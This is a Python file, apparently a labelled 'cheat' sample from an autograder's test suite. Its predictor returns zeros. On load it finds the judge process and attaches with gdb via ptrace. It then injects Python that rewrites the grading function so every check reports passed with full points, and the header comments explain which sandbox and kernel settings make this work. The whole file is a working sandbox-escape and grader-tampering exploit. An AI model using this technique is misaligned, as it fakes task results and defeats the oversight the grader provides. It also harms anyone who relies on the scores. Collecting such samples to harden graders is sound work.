# outcome: rejected | kind: cheat | checks: predict_speed,predict_correct,outputs_stay_valid,compile_budget | reason: worker ptraces the judge and rewrites its verdict | device: any
# A predictor that returns zeros, plus a load-time injection into the JUDGE's own Python process: the worker
# finds the judge (an ancestor of the same uid: on a GPU the sandbox keeps the host's PID namespace, and with
# COURSE_SANDBOX=none everywhere) and, through ptrace (gdb here; a few hundred lines of ctypes ptrace would do
# without gdb), runs Python inside it that replaces autograder.core.grading.run_check with one that marks every
# check PASSED with full points and trust "verified". Nothing the judge computes afterwards matters.
# Works wherever the kernel lets a same-uid process attach to a non-descendant (no Yama LSM, or
# kernel.yama.ptrace_scope=0: Debian, Fedora/RHEL defaults, many containers) and the judge is dumpable (the
# grader never calls prctl(PR_SET_DUMPABLE, 0)).
import os
import subprocess

import torch

_INJECT = r'''
import autograder.core.grading as _g
from autograder.core.protocol import CheckResult as _CR, PASSED as _P
def _run_check(check, ctx, load):
    return _CR(check.id, check.title, check.kind, float(check.points), check.points, _P,
               "ok (1.00x)", "", {}, "verified")
_g.run_check = _run_check
'''


def _judge_pid():
    pid = os.getppid()
    for _ in range(10):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
            stat = open(f"/proc/{pid}/stat").read()
        except OSError:
            return None
        if "python" in cmd and "autograder.core.worker" not in cmd:
            return pid
        pid = int(stat.rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return None
    return None


def _inject():
    pid = _judge_pid()
    if pid is None:
        return
    code = _INJECT.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    subprocess.run(["gdb", "-p", str(pid), "-batch", "-nx",
                    "-ex", "call (int)PyGILState_Ensure()",
                    "-ex", f'call (int)PyRun_SimpleString("{code}")',
                    "-ex", "call (void)PyGILState_Release($1)"],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)


_inject()


def make_predict(model):
    def predict(x):
        return torch.zeros_like(x)
    return predict
